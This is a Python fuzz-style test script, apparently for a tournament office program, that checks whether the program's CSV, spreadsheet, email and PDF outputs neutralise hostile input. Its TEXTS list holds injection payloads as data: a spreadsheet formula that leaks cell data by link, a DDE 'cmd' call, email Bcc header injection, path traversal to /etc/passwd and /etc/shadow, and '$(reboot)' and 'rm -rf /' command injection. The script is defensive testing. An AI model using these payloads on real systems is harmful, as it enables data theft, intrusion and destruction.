#!/usr/bin/python3
"""Hostile text in every field of every ledger and in the settings, over several nights: it is harmless in each output, nothing
of it is lost without a word, nothing is written outside of runs/, and the same input gives the same bytes."""
import csv
import email
import email.policy
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
from season_nights import table

sys.path.insert(0, "tests/cases")
from staff import COLUMNS, PROGRAM, member  # noqa: E402

DAYS = ("2026-02-01", "2026-03-01", "2026-04-01")
FORMULA = "=+-@\t\r"
# Controls, separators of lines, marks that turn the direction of what follows or are not seen.
UNSEEN = re.compile("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]")
HEADERS = ["From", "To", "Subject", "Date", "Message-ID", "X-Unsent", "MIME-Version", "Content-Type", "Content-Transfer-Encoding"]

TEXTS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1",
    "\u200b=1+1", "\x01=1+1", "Ann\x1b[2J\x1b]0;owned\x07 Lee", "Ann\x08\x7f\x9b31m Lee", "Evil\u202egnp.exe",
    "Ab\u2066\u2069\u200b\u200fCd", "Pat\r\nBcc: all@example.org", "Pat\nBcc: all@example.org\n\n<html>", "Pat\u2028Bcc: all@example.org",
    "Pat\x85Bcc: all@example.org", "Pat Lee <all@example.org>, Kim", "../../../../etc/passwd", "..\\..\\CON", "/etc/shadow", "$(reboot)",
    "`reboot`; rm -rf /", "%n%n%s%s%x%p", "{0}${7*7}{{7*7}}", '"all" """over"""', "it's\" , \",", "<b>&amp;</b>]]><f>1+1</f><!--",
    "(paren\\) Tj ET Q endstream", "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467", "Z" + "\u0301\u0323\u0302" * 100 + "algo",
    "\u0639\u0644\u064a \u0628\u0646 \u0645\u062d\u0645\u062f", "\u05e9\u05dc\u05d5\u05dd \u05db\u05d4\u05df", "x" * 4000, "word " * 800,
    "Robert'); DROP TABLE members;--", "NULL", "#REF!", "1E5", "1/2/2026", "TRUE", "_x000D_x", "\uff1d1+1", "=?UTF-8?Q?=0D=0ABcc:_a?=",
    "\ufffd\ufffe\uffff", "e\u0301" * 200,
]
# What is no UTF-8: surrogates, too long a form, beyond Unicode, cut off, no encoding at all.
BROKEN = [b"\xed\xa0\x80\xed\xb0\x80", b"\xc0\xaf\xc0\xae", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", b"abc\xe2\x82", b"\x81\x8d\x9d\xff"]


def write(path, ledger, rows):
    """The rows as dictionaries of text or bytes; quotes around everything."""
    columns = COLUMNS[ledger].split(",")
    lines = [COLUMNS[ledger].encode()]
    for row in rows:
        fields = [row.get(column, "") for column in columns]
        fields = [field if isinstance(field, bytes) else str(field).encode() for field in fields]
        lines.append(b",".join(b'"' + field.replace(b'"', b'""') + b'"' for field in fields))
    (path / "ledgers" / f"{ledger}.csv").write_bytes(b"\r\n".join(lines) + b"\r\n")


def good(ledger, k):
    """A row that is used as it stands, for the k-th member."""
    return {
        "players": {"member_id": member(k), "name": f"Player {k}", "address1": f"{k} Elm St", "city": "Albany", "state": "NY", "zip": "12207",
                    "email": f"p{k}@example.com", "rating": "1500", "expires": "life"},
        "entries": {"entry": k, "event": "26N", "member_id": member(k), "channel": "mail", "postmark": "2026-01-05", "fee": "25.00"},
        "results": {"section": "26N01", "white": "1", "black": "2", "result": "1-0", "postmark": "2026-02-10", "reported_by": "white"},
        "rulings": {"date": "2026-02-20", "ruling": "forfeit", "section": "26N02", "player": "1", "opponent": "2"},
    }[ledger]


def ledgers(night):
    """The ledgers as they stand on a night: first each text as a name and among the other fields of good rows, later each in each
    field of each ledger."""
    texts = TEXTS + BROKEN
    rows = {"players": [good("players", k + 1) | {"name": text} for k, text in enumerate(texts)], "results": [], "rulings": []}
    for k, row in enumerate(rows["players"][:len(TEXTS)]):
        for n, field in enumerate(("address1", "address2", "city", "email", "apart"), 1):
            if (k + n) % 3 == 0:
                row[field] = TEXTS[(k + 7 * n) % len(TEXTS)]
    rows["entries"] = [good("entries", k + 1) for k in range(len(texts))]
    rows["entries"] += [good("entries", 500 + k) | {"member_id": member(k + 1), "event": "26EN", "channel": "online"} for k in range(len(texts))]
    if night:
        for ledger in COLUMNS:
            for n, column in enumerate(COLUMNS[ledger].split(",")):
                rows[ledger] += [good(ledger, 1000 + 100 * n + k) | {column: text} for k, text in enumerate(texts)]
    if night > 1:
        rows["results"] += [good("results", 0) | {"section": section, "postmark": "2026-03-20"} for section in ("26N01", "26N02", "26EN01")]
    return rows


def outside(top):
    """All that lies there but the runs and the lock."""
    return sorted(str(path) for path in top.rglob("*") if "/runs/" not in f"{path}/" and path.name != ".lock")


def command(*arguments, status=(0,), given=b""):
    """Runs the program; what it says must be plain lines."""
    done = subprocess.run([PROGRAM, *map(os.fsencode, arguments)], capture_output=True, input=given)
    assert done.returncode in status, f"{arguments[0]}: exit {done.returncode}\n{done.stderr[-2000:]}"
    for said in (done.stdout, done.stderr):
        for line in said.decode().split("\n"):
            assert not UNSEEN.search(line), (arguments, line)
    return done.stderr.decode()


def check_tables(run):
    for path in run.rglob("*.csv"):
        with open(path, encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file, strict=True):
                assert None not in row and None not in row.values(), (path, row)
                for column, field in row.items():
                    lines = field.split("\n") if column == "suggested_ruling" else [field]  # one a ruling
                    assert not field or field[0] not in FORMULA, (path, field)
                    assert not any(UNSEEN.search(line) for line in lines), (path, field)


def check_workbooks(run):
    for path in run.rglob("*.xlsx"):
        with zipfile.ZipFile(path) as parts:
            assert parts.testzip() is None
            for name in parts.namelist():
                data = parts.read(name)
                ElementTree.fromstring(data)  # well-formed
                assert not re.search(rb"<f[ />]|TargetMode=.External", data), (path, name, "a formula, or a link out of the workbook")
                for text in re.findall(r"<t[^>]*>([^<]*)</t>", data.decode()):
                    assert not UNSEEN.search(text.replace("\n", "")), (path, name, text)
                    assert not re.search("_x[0-9A-Fa-f]{4}_", text.replace("_x005F_", "")), (path, name, text)  # would be read as a character


def check_mail(run):
    policy = email.policy.SMTP.clone(raise_on_defect=True)
    for path in run.glob("email/*.eml"):
        raw = path.read_bytes()
        for line in raw.removesuffix(b"\r\n").split(b"\r\n"):
            assert len(line) <= 78 and all(32 <= byte < 127 for byte in line), (path, line)
        draft = email.message_from_bytes(raw, policy=policy)
        assert draft.keys() == HEADERS and not draft.is_multipart(), (path, draft.keys())
        assert len(draft["To"].addresses) == len(draft["From"].addresses) == 1, (path, draft["To"])
        assert re.fullmatch(r"p\d+@example\.com", draft["To"].addresses[0].addr_spec), (path, draft["To"])
        for text in (draft["To"].addresses[0].display_name, draft["Subject"], draft.get_content().replace("\n", "").replace("\r", "")):
            assert not UNSEEN.search(text), (path, text)


def check_paper(run):
    for path in run.glob("*.pdf"):
        plain = subprocess.run(["qpdf", "--qdf", "--object-streams=disable", path, "-"], capture_output=True)
        assert plain.returncode == 0, (path, plain.stderr)
        assert not re.search(rb"/(JavaScript|JS|URI|Launch|OpenAction.*/S|EmbeddedFile|SubmitForm)\b", plain.stdout), path
        text = subprocess.run(["pdftotext", path, "-"], capture_output=True).stdout.decode()
        assert not UNSEEN.search(text.replace("\n", "").replace("\f", "")), path


def check_complete(run, rows):
    """Each record is counted and each rejected one told; each entry is in the tables or rejected; each piece is there or named."""
    inputs = openpyxl.load_workbook(run / "report.xlsx")["Inputs"].iter_rows(values_only=True)
    counts = {row[0]: row[1:7] for row in inputs if row[0] and row[0].endswith(".csv")}
    told = table(run, "rejects.csv")
    assert all(row["reason"] and int(row["line"]) > 1 for row in told)
    for ledger, written in rows.items():
        count, used, _, rejected, awaited, _ = counts[f"{ledger}.csv"]
        assert count >= len(written) and count == used + rejected + awaited, (ledger, counts)  # a broken record may be several
        assert rejected == sum(row["file"] == f"{ledger}.csv" for row in told), (ledger, counts)
    known = {row["entry"] for row in table(run, "tables/entries.csv")}
    lost = [row["entry"] for row in rows["entries"] if isinstance(row["entry"], int) and str(row["entry"]) not in known
            and not any(file == "entries.csv" and f'"{row["entry"]}"' in text for file, text in ((t["file"], t["row"]) for t in told))]
    assert not lost, f"entries that are nowhere: {lost}"
    paper = subprocess.run(["pdftotext", run / "letters.pdf", "-"], capture_output=True).stdout.decode() if (run / "letters.pdf").exists() else ""
    named = [row["subject"] + row["message"] for row in table(run, "review.csv")]
    for row in table(run, "book/mailings.csv"):
        if row["run"] != run.name:
            continue
        piece = re.compile(rf"(?i:piece) {row['mailing']}\b")
        assert "letter" not in row["via"] or piece.search(paper) or any(map(piece.search, named)), row
        assert "email" not in row["via"] or (run / "email" / f"{int(row['mailing']):06}.eml").exists(), row


def nights(top, name, look=True):
    """All nights of one office, looked through; the digests of its runs."""
    office = top / name
    (office / "ledgers").mkdir(parents=True)
    settings = {"office": {"name": TEXTS[0], "address1": TEXTS[9], "address2": TEXTS[11], "city": TEXTS[18], "state": "NY", "zip": "12207",
                           "email": "office@example.org", "phone": TEXTS[23]},
                "director": {"name": '=?x?= "TD" <td@example.org>', "email": "td@example.org"}, "event 26N": {}, "event 26EN": {}}
    (office / "office.ini").write_text("".join(f"[{section}]\n" + "".join(f"{key} = {value}\n" for key, value in keys.items())
                                               for section, keys in settings.items()), encoding="utf-8")
    digests = []
    for night, day in enumerate(DAYS):
        rows = ledgers(night)
        for ledger in COLUMNS:
            write(office, ledger, rows[ledger])
        before = outside(top)
        if look:
            command("check", office, "--as-of", day, status=(0, 1))
        command("run", office, "--as-of", day)
        run = office / "runs" / day
        assert outside(top) == before, set(outside(top)) ^ set(before)
        assert all(re.fullmatch(r"[A-Za-z0-9._-]+", path.name) for path in run.rglob("*"))
        for check in (check_tables, check_workbooks, check_mail, check_paper) if look else ():
            check(run)
        if look:
            check_complete(run, rows)
        digests.append((run / "MANIFEST").read_bytes())
    return office, digests


def ask(office):
    """The other commands with hostile arguments, lines and files."""
    before = outside(office.parent)
    for text in [text.encode() for text in TEXTS[1:32:2]] + BROKEN[:2]:
        command("explain", office, text, status=(0, 2, 3))
        command("reprint", office, text, "-o", office.parent / "none", status=(2, 3))
        command("run", office, "--as-of", text, status=(2,))
        command("init", office.parent / "new" / "x" / "y", text, status=(2, 5))
    command("adopt", office, "../../../../etc/passwd", status=(2, 3))
    assert outside(office.parent) == before
    ledger = office / "ledgers" / "results.csv"
    rows = ledger.read_bytes()
    command("scan", office, status=(0, 1), given=b"\n".join([text.encode() for text in TEXTS] + BROKEN) + b"\n")
    assert ledger.read_bytes() == rows, "a line that is no code was taken for one"


def refuse(top):
    """Settings and ledgers that make a run impossible: plain lines, exit 3, and nothing is published."""
    for n, text in enumerate(TEXTS[9:29]):
        office = top / f"refused-{n}"
        (office / "ledgers").mkdir(parents=True)
        for ledger in COLUMNS:
            write(office, ledger, [])
        (office / "office.ini").write_bytes(f"[event 26N]\n{text} = 1\n[{text}]\nfee = {text}\n".encode())
        command("run", office, "--as-of", DAYS[0], status=(3,))
        (office / "office.ini").write_bytes(b"[event 26N]\n")
        for header in (text.encode(), f"entry,event,member_id,channel,postmark,received,{text}".encode(), b"\0" + text.encode()):
            (office / "ledgers" / "entries.csv").write_bytes(header + b"\n")
            command("run", office, "--as-of", DAYS[0], status=(3,))
        assert not list((office / "runs").glob("2*")), office


def main():
    top = Path(os.environ["TMPDIR"])
    office, first = nights(top, "first")
    _, second = nights(top, "second", look=False)
    assert first == second, "another run gives other bytes"
    ask(office)
    refuse(top)
    print(f"{len(TEXTS) + len(BROKEN)} texts in {sum(len(columns.split(',')) for columns in COLUMNS.values())} columns")


if __name__ == "__main__":
    main()
